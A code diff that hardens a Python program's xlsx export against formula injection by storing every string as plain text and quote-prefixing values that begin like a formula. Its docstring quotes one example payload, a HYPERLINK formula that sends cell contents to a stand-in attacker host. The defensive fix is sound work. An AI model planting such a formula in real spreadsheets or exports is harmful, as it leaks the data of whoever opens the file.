@@ -708,6 +708,40 @@ def commit_import(db: Database, actor: Actor, rows: Sequence[RowResult]) -> Impo
 # --- exporting ----------------------------------------------------------------------------
 
 
+# what Excel, WPS and LibreOffice may take as the start of a formula (or DDE command)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
+    """*values* as cells for ``ws.append`` of the write-only sheet *ws*, every text a text.
+
+    openpyxl writes a string beginning with ``=`` as a live formula, so a name
+    like ``=HYPERLINK("http://evil.example/?d="&A2,"x")`` would run when the
+    export is opened (formula injection).  Every ``str`` becomes a cell of
+    type ``s`` (a shared string, never a formula or an error code); one that
+    begins like a formula (:data:`FORMULA_STARTS`) also gets the ``quotePrefix``
+    style, which Excel and WPS show as text and keep as text when the cell is
+    edited.  The text itself is unchanged (but for control characters, which
+    XML cannot hold).  Every xlsx the program writes goes
+    through here (:func:`write_xlsx`).
+    """
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    out: list[Any] = []
+    for value in values:
+        if isinstance(value, str):
+            # control characters cannot be in the sheet's XML; openpyxl would raise
+            cell = WriteOnlyCell(ws, ILLEGAL_CHARACTERS_RE.sub("", value))
+            cell.data_type = "s"
+            if value.startswith(FORMULA_STARTS):
+                cell.quotePrefix = True
+            out.append(cell)
+        else:
+            out.append(value)
+    return out
+
+
 def write_xlsx(
     path: Path | str,
     sheet: str,
@@ -725,12 +759,12 @@ def write_xlsx(
     path = Path(path)
     wb = Workbook(write_only=True)
     ws = wb.create_sheet(sheet)
-    ws.append(list(header))
+    ws.append(xlsx_row(ws, header))
     count = 0
     tmp = path.with_suffix(path.suffix + ".part")
     try:
         for row in rows:
-            ws.append(list(row))
+            ws.append(xlsx_row(ws, row))
             count += 1
         wb.save(tmp)
         tmp.replace(path)
